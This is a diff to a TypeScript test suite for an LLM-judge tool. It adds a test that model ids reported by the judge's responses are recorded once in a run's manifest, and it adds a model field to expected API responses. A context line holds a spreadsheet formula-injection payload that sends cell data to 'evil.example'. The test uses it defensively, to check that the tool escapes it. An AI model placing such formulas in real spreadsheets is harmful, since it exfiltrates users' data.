@@ -254,6 +254,25 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     expect(JSON.stringify(result)).not.toContain(KEY);
   });
 
+  it("records the model ids the judge's responses reported in the run's manifest, once each", async () => {
+    const dir = await newRun(MIXED_RUN);
+    const plan = script(MIXED_PLAN);
+    // The endpoint answers the alias with dated models: the manifest says which ones judged.
+    server.respond(async (request, index) => ({
+      ...(plan(request, index) as { content: string }),
+      model: userMessageOf(request).includes('[alpha-2]') ? 'gpt-test-2026-02' : 'gpt-test-2026-01',
+    }));
+    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    const read = async () => JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8'));
+    const ids = (await read()).models.judges[`judge-${MODEL}`] as string[];
+    expect([...ids].sort()).toEqual(['gpt-test-2026-01', 'gpt-test-2026-02']);
+    const before = await readFile(join(dir, 'manifest.json'), 'utf8');
+    // Judged again (cached verdicts report nothing new): the manifest stays as it was, byte for byte.
+    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    expect(await readFile(join(dir, 'manifest.json'), 'utf8')).toBe(before);
+    expect((await read()).models).toEqual({ judges: { [`judge-${MODEL}`]: ids } });
+  });
+
   it('writes a reason that a spreadsheet would run as a formula behind a single quote; turnkit reads it back', async () => {
     const reason = '=HYPERLINK("http://evil.example/?"&A1,"deck 2")';
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] Take the lift to deck 2.'] }] });
@@ -991,6 +1010,8 @@ describe('createJudgeCall: API keys', () => {
     expect(await call({ system: 'sys', user: 'usr' })).toEqual({
       text: '{"verdict":"na","reason":"local"}',
       usage: { inputTokens: 100, outputTokens: 20 },
+      // The fake server reports the model asked for.
+      model: MODEL,
     });
     expect(server.requests).toHaveLength(1);
     expect(sentKey(server.requests[0]!)).not.toBe(KEY);
@@ -1010,6 +1031,7 @@ describe('createJudgeCall: API keys', () => {
     expect(await call({ system: 'sys', user: 'usr' })).toEqual({
       text: '{"verdict":"pass","reason":"default"}',
       usage: { inputTokens: 100, outputTokens: 20 },
+      model: MODEL,
     });
     expect(sentKey(server.requests[0]!)).toBe('sk-other-key-000111');
     expect(server.requests[0]!.body).toMatchObject({
